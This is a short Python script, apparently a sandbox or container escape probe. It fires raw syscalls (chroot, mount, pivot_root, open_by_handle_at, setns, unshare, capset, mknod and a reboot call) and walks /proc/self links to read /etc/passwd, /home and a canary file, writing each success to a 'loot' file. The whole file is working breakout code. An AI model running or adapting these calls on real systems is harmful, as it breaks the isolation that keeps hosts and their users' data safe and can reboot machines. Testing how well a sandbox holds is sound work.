# opens by handle, mounts, changes root, watches files, and looks through every link of /proc
def loot(what):
    try:
        open("/loot/handles_and_mounts", "w").write(str(what))
    except OSError:
        pass
    print("LOOT:handles_and_mounts", str(what)[:80])


import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
room = ctypes.create_string_buffer(256)
for number, arguments in ((303, (-100, b"/", room, room, 0)), (304, (-100, room, 0)), (161, (b".",)), (165, (b"x", b".", b"tmpfs", 0, 0)), (428, (-100, b"/", 1)), (430, (b"tmpfs", 0)), (155, (b".", b".")), (300, (0, 0)), (294, (0,)), (253, ()), (169, (0xfee1dead, 0, 0, 0)), (308, (0, 0)), (272, (0x10000000,)), (126, (room, room)), (188, (b".", b"user.x", b"1", 1, 0)), (133, (b"n", 0o20666, 0x103))):
    if libc.syscall(number, *arguments) >= 0: loot(number)
for link in ("root", "cwd/../../..", "exe"):
    for path in ("/etc/passwd", "/proj/canary.txt", "/home", ""):
        try:
            if open(f"/proc/self/{link}{path}", "rb").read(4) not in (b"\x7fELF", b""): loot(f"{link}{path}")
        except OSError:
            pass
